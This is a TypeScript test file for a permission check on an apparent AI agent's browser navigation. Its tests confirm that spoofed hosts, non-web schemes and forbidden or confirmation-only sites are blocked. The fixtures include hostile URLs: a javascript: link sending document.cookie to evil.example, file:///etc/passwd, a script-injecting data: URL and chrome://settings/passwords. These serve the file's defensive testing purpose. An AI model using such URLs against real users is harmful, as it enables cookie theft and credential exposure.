import { createPolicy, parsePermissions } from "@worksite/core";
import { describe, expect, it } from "vitest";
import { navigationVerdict, permittedBy } from "./navigation.js";

/** The verdict a page's own navigation gets, from a real policy built from a PERMISSIONS.md, as the plugins ask it. */
function verdictUnder(permissions: string) {
  const root = "/work/site";
  const policy = createPolicy(parsePermissions(permissions, { file: `${root}/PERMISSIONS.md`, root }), {
    root,
    stage: "write",
  });
  return (url: string) => {
    const decision = policy.decide({ tool: "browser.open", target: url, effect: "read", targetKind: "url" });
    const verdict = navigationVerdict(url, decision);
    expect(permittedBy(url, decision) || verdict.permitted === false).toBe(true);
    return verdict;
  };
}

describe("a page's own navigation, decided at the moment it happens (attacks)", () => {
  it("an allowed host in the userinfo of another host's URL is that other host", () => {
    const verdict = verdictUnder(
      "---\ndefault:\n  read: forbidden\n---\n# Permissions\n\n## Allow\n- `browser.open https://docs.example/**`\n",
    );
    expect(verdict("https://docs.example/page").permitted).toBe(true);
    for (const url of [
      "https://docs.example@evil.example/",
      "https://docs.example.evil.example/",
      "https://evil.example/docs.example/",
      "https://evil.example/?https://docs.example/",
    ])
      expect(verdict(url), url).toMatchObject({ permitted: false });
  });

  it("file:, javascript:, data:, chrome: and view-source: are not web addresses: a rule matching every page does not let them through", () => {
    const verdict = verdictUnder("# Permissions\n\n## Allow\n- `browser.open https://**`\n");
    for (const url of [
      "file:///etc/passwd",
      "javascript:fetch('https://evil.example/?'+document.cookie)",
      "data:text/html,<script>alert(1)</script>",
      "chrome://settings/passwords",
      "view-source:https://docs.example/",
      " https://evil.example/",
    ])
      expect(verdict(url), url).toMatchObject({ permitted: false, reason: /not a web (address|page)/ });
  });

  it("a forbidden or waiting tier is never a navigation, whatever the scheme; only a real blank page needs no decision", () => {
    const verdict = verdictUnder(
      "# Permissions\n\n## Forbidden\n- `browser.open https://bank.example/**`\n\n## Requires confirmation\n- `browser.open https://mail.example/**`\n",
    );
    expect(verdict("https://bank.example/transfer")).toMatchObject({ permitted: false, reason: /^forbidden/ });
    expect(verdict("HTTPS://BANK.EXAMPLE/transfer")).toMatchObject({ permitted: false });
    expect(verdict("https://mail.example/inbox")).toMatchObject({ permitted: false, reason: /^confirm/ });
    expect(navigationVerdict("about:blank", undefined).permitted).toBe(true);
    for (const url of ["about:blank#https://bank.example/", "about:blankx", "about:settings"])
      expect(navigationVerdict(url, undefined), url).toMatchObject({ permitted: false });
  });
});
